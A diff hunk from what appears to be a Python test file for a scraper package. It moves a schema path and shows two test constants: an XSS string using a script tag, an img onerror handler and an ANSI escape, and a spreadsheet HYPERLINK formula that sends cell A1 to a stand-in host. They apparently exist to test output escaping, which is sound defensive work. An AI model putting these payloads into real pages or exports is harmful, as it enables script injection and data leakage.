@@ -15,7 +15,7 @@ from typing import Any
 import scraper
 
 PACKAGE = Path(scraper.__file__).parent
-SCHEMA = (PACKAGE / "schema.sql").read_text("utf-8")
+SCHEMA = (PACKAGE / "archive" / "schema.sql").read_text("utf-8")
 
 HOSTILE = "<script>document.title='broken in'</script>\"'><img src=x onerror=\"document.title='broken in'\">\x1b[31m"
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"+")'
